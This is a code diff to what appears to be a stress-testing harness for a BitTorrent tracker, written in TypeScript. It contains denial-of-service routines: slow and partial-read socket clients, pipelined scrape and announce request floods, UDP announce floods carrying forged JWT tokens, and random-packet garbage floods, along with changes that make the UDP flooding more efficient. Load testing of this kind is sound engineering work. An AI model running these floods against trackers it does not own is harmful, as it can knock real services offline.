@@ -49,7 +49,11 @@ if (import.meta.main) {
 
 /** Clients that say nothing, that say a byte at a time, and that ask for more than they read; whoever is cut comes back. */
 async function slow({ http, count }: AttackOptions): Promise<void> {
-  const request = `GET /scrape?${`info_hash=${'%aa'.repeat(20)}&`.repeat(40)} HTTP/1.1\r\nHost: t\r\n\r\n`
+  const hash = '%ee'.repeat(20)
+  const batches = [
+    `/scrape?${`info_hash=${hash}&`.repeat(40)}`,
+    `/announce?info_hash=${hash}&peer_id=${'a'.repeat(20)}&port=1&left=1&uploaded=0&downloaded=0&numwant=100`,
+  ].map((target) => `GET ${target} HTTP/1.1\r\nHost: t\r\n\r\n`.repeat(20))
   const begin = async (i: number): Promise<void> => {
     const socket = await open(http, i)
     socket.once('close', () => {
@@ -63,8 +67,13 @@ async function slow({ http, count }: AttackOptions): Promise<void> {
       })
     } else if (i % 3 === 2) {
       socket.pause()
-      socket.write(request.repeat(200))
-      stats.sent += 200
+      const batch = batches[i % batches.length] ?? ''
+      const ask = () => {
+        do stats.sent += 20
+        while (socket.write(batch))
+      }
+      socket.on('drain', ask)
+      ask()
     }
   }
   await Promise.all(Array.from({ length: count }, (_, i) => begin(i)))
@@ -135,7 +144,7 @@ async function tokens({ http, udp, count, token = '', infoHash = '' }: AttackOpt
     downloaded: 0,
     left: 1,
   }
-  await floodUdp(udp, 64, (connectionId, transactionId) =>
+  await floodUdp(udp, { window: 500, renewMs: 1000 }, (connectionId, transactionId) =>
     writeUdpAnnounce({ connectionId, transactionId }, fields, `/?jwt=${forged()}`),
   )
 }
@@ -154,7 +163,7 @@ async function swarms({ http, udp, count }: AttackOptions): Promise<void> {
     ask()
   }
   await Promise.all(Array.from({ length: count }, (_, i) => begin(i)))
-  await floodUdp(udp, 64, (connectionId, transactionId) =>
+  await floodUdp(udp, { window: 500, renewMs: 1000 }, (connectionId, transactionId) =>
     writeUdpAnnounce(
       { connectionId, transactionId },
       {
@@ -187,7 +196,7 @@ async function garbage({ http, udp, count }: AttackOptions): Promise<void> {
     if (randomInt(2) === 0) socket.end()
   }
   await Promise.all(Array.from({ length: count }, (_, i) => begin(i)))
-  await floodUdp(udp, 64, (connectionId) => {
+  await floodUdp(udp, { window: 100, renewMs: 20 }, (connectionId) => {
     const packet = randomBytes(randomInt(0, 1500))
     if (packet.length >= 16 && randomInt(2) === 0) packet.set(connectionId)
     if (packet.length >= 16) packet.writeUInt32BE(randomInt(6), 8)
@@ -216,10 +225,13 @@ async function open({ host, port }: AttackOptions['http'], i: number): Promise<S
   return socket
 }
 
-/** Sends `window` packets at once, and as many again in each turn of the loop, whether they are answered or not. */
+/**
+ * Keeps `window` packets under way: one more for each answer, and all of them anew each `renewMs`, for those that get none. More than the
+ * server takes would only be lost in the kernel, with those of everyone else: that is for the network to keep away.
+ */
 async function floodUdp(
   { host, port }: AttackOptions['udp'],
-  window: number,
+  { window, renewMs }: { window: number; renewMs: number },
   write: (connectionId: Uint8Array, transactionId: number) => Buffer,
 ): Promise<void> {
   const socket = createSocket('udp4')
@@ -230,14 +242,19 @@ async function floodUdp(
   const hello = once(socket, 'message') as Promise<[Buffer]>
   socket.send(writeUdpConnect(1))
   const connectionId = parseUdpConnectReply((await hello)[0])
-  socket.on('message', () => stats.answered++)
-  socket.on('error', () => undefined)
-  const flood = () => {
-    for (let i = 0; i < window; i++) {
-      stats.sent++
-      socket.send(write(connectionId, stats.sent >>> 0))
-    }
-    if (!over) setImmediate(flood)
+  let underWay = 0
+  const fill = () => {
+    for (; underWay < window; underWay++) socket.send(write(connectionId, stats.sent++ >>> 0))
   }
-  flood()
+  socket.on('error', () => undefined)
+  socket.on('message', () => {
+    stats.answered++
+    underWay--
+    fill()
+  })
+  setInterval(() => {
+    underWay = 0
+    fill()
+  }, renewMs)
+  fill()
 }
